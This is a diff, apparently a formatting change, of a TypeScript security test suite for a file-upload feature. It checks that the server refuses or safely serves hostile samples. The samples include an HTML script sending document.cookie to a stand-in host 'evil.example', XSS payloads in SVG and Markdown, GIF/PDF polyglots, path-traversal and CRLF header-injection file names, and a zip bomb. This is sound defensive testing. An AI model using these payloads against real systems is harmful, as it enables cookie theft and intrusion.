@@ -16,16 +16,31 @@ const LIMIT = 64 * 1024;
 /** In every name of the corpus, so that a file written under the client's name would be found. */
 const MARKER = `corpus-${randomUUID().slice(0, 8)}`;
 
-const HTML = text(`<!doctype html><html><body><script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>`);
-const SVG = text(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>`);
-const PIXEL_GIF = Buffer.from('4749463839610100010080000000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');
+const HTML = text(
+  `<!doctype html><html><body><script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>`,
+);
+const SVG = text(
+  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>`,
+);
+const PIXEL_GIF = Buffer.from(
+  '4749463839610100010080000000000000ffffff21f90401000000002c00000000010001000002024401003b',
+  'hex',
+);
 /** A real GIF with a page after it: browsers that sniffed it as HTML would run the script. */
-const GIF_THEN_HTML = Buffer.concat([PIXEL_GIF, text('<html><body><script>alert(document.domain)</script></body></html>')]);
+const GIF_THEN_HTML = Buffer.concat([
+  PIXEL_GIF,
+  text('<html><body><script>alert(document.domain)</script></body></html>'),
+]);
 /** Text that starts like a GIF (the classic `GIF89a=...` JavaScript polyglot): no real image. */
 const GIF_TEXT_POLYGLOT = text(`GIF89a/*<html><script>*/=1;alert(document.domain)//</script></html>`);
 /** A PDF whose first lines are also a web page. */
-const PDF_THEN_HTML = Buffer.concat([text(`%PDF-1.4\n%<html><body><script>alert(document.domain)</script></body></html>\n`), pdf().subarray('%PDF-1.4\n'.length)]);
-const MARKDOWN_WITH_SCRIPT = text(`# Notes\n\n<script>alert(document.domain)</script>\n\n<img src=x onerror=alert(1)>\n\n[click me](javascript:alert(1))\n`);
+const PDF_THEN_HTML = Buffer.concat([
+  text(`%PDF-1.4\n%<html><body><script>alert(document.domain)</script></body></html>\n`),
+  pdf().subarray('%PDF-1.4\n'.length),
+]);
+const MARKDOWN_WITH_SCRIPT = text(
+  `# Notes\n\n<script>alert(document.domain)</script>\n\n<img src=x onerror=alert(1)>\n\n[click me](javascript:alert(1))\n`,
+);
 
 /**
  * A zip of one entry that expands to `expanded` zero bytes (about a thousand times its size): a
@@ -75,37 +90,122 @@ const served = (type: string): Outcome => ({ served: type });
 
 const CORPUS: Sample[] = [
   // Pages and images that run script: refused by name, by the mismatch of name and bytes, or by type.
-  { label: 'HTML with a script, named .html', name: `${MARKER}.html`, bytes: HTML, outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'HTML with a script, named .txt', name: `${MARKER}.txt`, bytes: HTML, outcome: refused(415, 'TYPE_MISMATCH') },
+  {
+    label: 'HTML with a script, named .html',
+    name: `${MARKER}.html`,
+    bytes: HTML,
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'HTML with a script, named .txt',
+    name: `${MARKER}.txt`,
+    bytes: HTML,
+    outcome: refused(415, 'TYPE_MISMATCH'),
+  },
   { label: 'HTML with a script, no extension', name: MARKER, bytes: HTML, outcome: refused(415, 'TYPE_NOT_ALLOWED') },
   { label: 'SVG with a script, named .svg', name: `${MARKER}.svg`, bytes: SVG, outcome: refused(400, 'BAD_FILE_NAME') },
   { label: 'SVG with a script, named .png', name: `${MARKER}.png`, bytes: SVG, outcome: refused(415, 'TYPE_MISMATCH') },
   { label: 'SVG with a script, no extension', name: MARKER, bytes: SVG, outcome: refused(415, 'TYPE_NOT_ALLOWED') },
   // Polyglots: what the bytes really are decides, and it is served as that, never as a page.
   { label: 'a GIF followed by a page', name: `${MARKER}.gif`, bytes: GIF_THEN_HTML, outcome: served('image/gif') },
-  { label: 'text posing as a GIF (GIF89a polyglot)', name: `${MARKER}.gif`, bytes: GIF_TEXT_POLYGLOT, outcome: refused(415, 'TYPE_MISMATCH') },
-  { label: 'a PDF that is also a page', name: `${MARKER}.pdf`, bytes: PDF_THEN_HTML, outcome: served('application/pdf') },
-  { label: 'a PDF that is also a page, named .html', name: `${MARKER}.html`, bytes: PDF_THEN_HTML, outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'Markdown with a script, an event handler and a javascript: link', name: `${MARKER}.md`, bytes: MARKDOWN_WITH_SCRIPT, outcome: served('text/markdown') },
-  { label: 'plain text with a script in it', name: `${MARKER}.txt`, bytes: text(`Hello\n<script>alert(document.domain)</script>\n`), outcome: served('text/plain') },
+  {
+    label: 'text posing as a GIF (GIF89a polyglot)',
+    name: `${MARKER}.gif`,
+    bytes: GIF_TEXT_POLYGLOT,
+    outcome: refused(415, 'TYPE_MISMATCH'),
+  },
+  {
+    label: 'a PDF that is also a page',
+    name: `${MARKER}.pdf`,
+    bytes: PDF_THEN_HTML,
+    outcome: served('application/pdf'),
+  },
+  {
+    label: 'a PDF that is also a page, named .html',
+    name: `${MARKER}.html`,
+    bytes: PDF_THEN_HTML,
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'Markdown with a script, an event handler and a javascript: link',
+    name: `${MARKER}.md`,
+    bytes: MARKDOWN_WITH_SCRIPT,
+    outcome: served('text/markdown'),
+  },
+  {
+    label: 'plain text with a script in it',
+    name: `${MARKER}.txt`,
+    bytes: text(`Hello\n<script>alert(document.domain)</script>\n`),
+    outcome: served('text/plain'),
+  },
   // Names that lie about the bytes.
   { label: 'PNG bytes named .pdf', name: `${MARKER}.pdf`, bytes: png(), outcome: refused(415, 'TYPE_MISMATCH') },
   { label: 'HTML bytes named .png', name: `${MARKER}.png`, bytes: HTML, outcome: refused(415, 'TYPE_MISMATCH') },
   // Names that try to be paths, headers or disguises.
-  { label: 'a name climbing with ../', name: `../../${MARKER}.pdf`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'a name climbing with ..\\', name: `..\\..\\${MARKER}.pdf`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
+  {
+    label: 'a name climbing with ../',
+    name: `../../${MARKER}.pdf`,
+    bytes: pdf(),
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'a name climbing with ..\\',
+    name: `..\\..\\${MARKER}.pdf`,
+    bytes: pdf(),
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
   { label: 'an absolute POSIX path', name: `/tmp/${MARKER}.pdf`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'an absolute Windows path', name: `C:\\Windows\\Temp\\${MARKER}.pdf`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'a name with CR LF (header injection)', name: `${MARKER}\r\nContent-Type: text/html\r\n.pdf`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'a name with a NUL byte', name: `${MARKER}.pdf\u0000.html`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'a name with a right-to-left override', name: `${MARKER}\u202Efdp.exe`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'a name of 300 characters', name: `${MARKER}${'a'.repeat(300)}.pdf`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
-  { label: 'a name with quotes, a semicolon, a percent sign and an accent', name: `${MARKER} "final"; v=2 %41 ü.pdf`, bytes: pdf(), outcome: served('application/pdf') },
+  {
+    label: 'an absolute Windows path',
+    name: `C:\\Windows\\Temp\\${MARKER}.pdf`,
+    bytes: pdf(),
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'a name with CR LF (header injection)',
+    name: `${MARKER}\r\nContent-Type: text/html\r\n.pdf`,
+    bytes: pdf(),
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'a name with a NUL byte',
+    name: `${MARKER}.pdf\u0000.html`,
+    bytes: pdf(),
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'a name with a right-to-left override',
+    name: `${MARKER}\u202Efdp.exe`,
+    bytes: pdf(),
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'a name of 300 characters',
+    name: `${MARKER}${'a'.repeat(300)}.pdf`,
+    bytes: pdf(),
+    outcome: refused(400, 'BAD_FILE_NAME'),
+  },
+  {
+    label: 'a name with quotes, a semicolon, a percent sign and an accent',
+    name: `${MARKER} "final"; v=2 %41 ü.pdf`,
+    bytes: pdf(),
+    outcome: served('application/pdf'),
+  },
   // Sizes.
   { label: 'zero bytes', name: `${MARKER}.pdf`, bytes: Buffer.alloc(0), outcome: refused(400, 'FILE_EMPTY') },
-  { label: 'one byte over the limit', name: `${MARKER}.pdf`, bytes: Buffer.concat([pdf(), random(LIMIT + 1 - pdf().length)]), outcome: refused(413, 'FILE_TOO_LARGE') },
+  {
+    label: 'one byte over the limit',
+    name: `${MARKER}.pdf`,
+    bytes: Buffer.concat([pdf(), random(LIMIT + 1 - pdf().length)]),
+    outcome: refused(413, 'FILE_TOO_LARGE'),
+  },
   // Archives: zip is an allowed type, so a bomb is stored and served exactly as sent, never unpacked.
-  { label: 'a zip bomb (32 MB of zeros in ~32 KB)', name: `${MARKER}.zip`, bytes: ZIP_BOMB, outcome: served('application/zip') },
+  {
+    label: 'a zip bomb (32 MB of zeros in ~32 KB)',
+    name: `${MARKER}.zip`,
+    bytes: ZIP_BOMB,
+    outcome: served('application/zip'),
+  },
 ];
 
 /** An accepted upload as the hub then shows and serves it. */
@@ -143,7 +243,8 @@ describe('the upload corpus', () => {
   let root: string;
   let dataDir: string;
   let routes: Record<RouteName, Route>;
-  const sql = <T>(query: string, params: unknown[] = []) => api.orm.em.fork().getConnection().execute<T[]>(query, params);
+  const sql = <T>(query: string, params: unknown[] = []) =>
+    api.orm.em.fork().getConnection().execute<T[]>(query, params);
 
   beforeAll(async () => {
     root = await mkdtemp(join(tmpdir(), 'convene-corpus-'));
@@ -162,7 +263,9 @@ describe('the upload corpus', () => {
   async function filesOnDisk(): Promise<string[]> {
     const walk = async (dir: string): Promise<string[]> => {
       const entries = await readdir(dir, { withFileTypes: true }).catch(() => []);
-      const nested = await Promise.all(entries.map((e) => (e.isDirectory() ? walk(join(dir, e.name)) : [join(dir, e.name)])));
+      const nested = await Promise.all(
+        entries.map((e) => (e.isDirectory() ? walk(join(dir, e.name)) : [join(dir, e.name)])),
+      );
       return nested.flat();
     };
     return (await walk(root)).map((path) => relative(root, path)).sort();
@@ -171,7 +274,8 @@ describe('the upload corpus', () => {
   /** Files are only ever stored under server-made keys in the storage's objects directory, none named after an upload. */
   async function expectOnlyStorageKeys(): Promise<string[]> {
     const files = await filesOnDisk();
-    for (const file of files) expect(file).toMatch(/^srv\/convene\/data\/objects\/[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{32}$/);
+    for (const file of files)
+      expect(file).toMatch(/^srv\/convene\/data\/objects\/[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{32}$/);
     // Not even where a name taken as a path would have put it: the system's temporary directory
     // (the absolute names point there) or the server's working directory.
     const elsewhere = [...(await readdir(tmpdir())), ...(await readdir(process.cwd()))];
@@ -184,10 +288,24 @@ describe('the upload corpus', () => {
     const member = await w.as('member');
     return {
       upload: (part) => upload(api.url, member, `/api/groups/${w.group.id}/documents`, [part]),
-      recorded: async () => (await sql<{ n: number }>('select count(*)::int as n from document_versions v join documents d on d.id = v.document_id where d.group_id = ?', [w.group.id]))[0]!.n,
+      recorded: async () =>
+        (
+          await sql<{ n: number }>(
+            'select count(*)::int as n from document_versions v join documents d on d.id = v.document_id where d.group_id = ?',
+            [w.group.id],
+          )
+        )[0]!.n,
       async serve(result) {
         const id = result.json.document!.id;
-        const document = dataOf(await member.request<{ document: { title: string; versions: { fileName: string; downloadUrl: string }[]; textPreview: { html: string | null } | null } }>(DOCUMENT, { id })).document;
+        const document = dataOf(
+          await member.request<{
+            document: {
+              title: string;
+              versions: { fileName: string; downloadUrl: string }[];
+              textPreview: { html: string | null } | null;
+            };
+          }>(DOCUMENT, { id }),
+        ).document;
         const [version] = document.versions;
         // The title starts as the file's name: it must not carry a path either.
         expect(document.title).not.toMatch(/[/\\]/);
@@ -204,7 +322,12 @@ describe('the upload corpus', () => {
   /** Attaching a file on the public pitch form, with no account; served to the group's convenor once pitched. */
   async function pitchesRoute(w: GroupPersonas): Promise<Route> {
     const formSlug = `corpus-${randomUUID().slice(0, 8)}`;
-    const form = { slug: formSlug, title: 'Pitch us an idea', consentText: 'We use your details only to discuss your pitch.', fields: [] };
+    const form = {
+      slug: formSlug,
+      title: 'Pitch us an idea',
+      consentText: 'We use your details only to discuss your pitch.',
+      fields: [],
+    };
     dataOf(await (await w.as('admin')).request(SAVE_FORM, { input: form }));
     const convenor = await w.as('convenor');
     return {
@@ -229,8 +352,17 @@ describe('the upload corpus', () => {
         };
         dataOf(await api.client().request(SUBMIT, { input }));
         const [pitch] = await sql<{ id: string }>('select id from pitches where title = ?', [title]);
-        const [attachment] = dataOf(await convenor.request<{ pitch: { attachments: { fileName: string; downloadUrl: string }[] } }>(PITCH, { id: pitch!.id })).pitch.attachments;
-        return { shownName: attachment!.fileName, download: await convenor.get(attachment!.downloadUrl), inline: null, previewHtml: null };
+        const [attachment] = dataOf(
+          await convenor.request<{ pitch: { attachments: { fileName: string; downloadUrl: string }[] } }>(PITCH, {
+            id: pitch!.id,
+          }),
+        ).pitch.attachments;
+        return {
+          shownName: attachment!.fileName,
+          download: await convenor.get(attachment!.downloadUrl),
+          inline: null,
+          previewHtml: null,
+        };
       },
     };
   }
@@ -269,7 +401,11 @@ describe('the upload corpus', () => {
 
       if ('refused' in sample.outcome) {
         const [status, reason] = sample.outcome.refused;
-        expect([result.status, result.json.error?.code, result.json.error?.reason]).toEqual([status, 'BAD_USER_INPUT', reason]);
+        expect([result.status, result.json.error?.code, result.json.error?.reason]).toEqual([
+          status,
+          'BAD_USER_INPUT',
+          reason,
+        ]);
         expect(result.json.error?.message).toEqual(expect.any(String));
         expect(JSON.stringify(result.json)).not.toMatch(/\bat [\w$.<>]+ \(|node_modules/);
         // Nothing recorded, nothing left on disk.
@@ -292,7 +428,9 @@ describe('the upload corpus', () => {
         // Asked for in place, the file is still never a page: only images, PDF and plain text
         // are shown inline at all (Markdown and the rest stay attachments), always in the sandbox.
         expect(shown.inline.headers.get('content-type')).not.toMatch(/html|svg|xml|javascript/i);
-        expect(shown.inline.headers.get('content-disposition')).toMatch(['image/gif', 'application/pdf', 'text/plain'].includes(sample.outcome.served) ? /^inline;/ : /^attachment;/);
+        expect(shown.inline.headers.get('content-disposition')).toMatch(
+          ['image/gif', 'application/pdf', 'text/plain'].includes(sample.outcome.served) ? /^inline;/ : /^attachment;/,
+        );
         expectSandboxed(shown.inline);
       }
       if (shown.previewHtml !== null) {
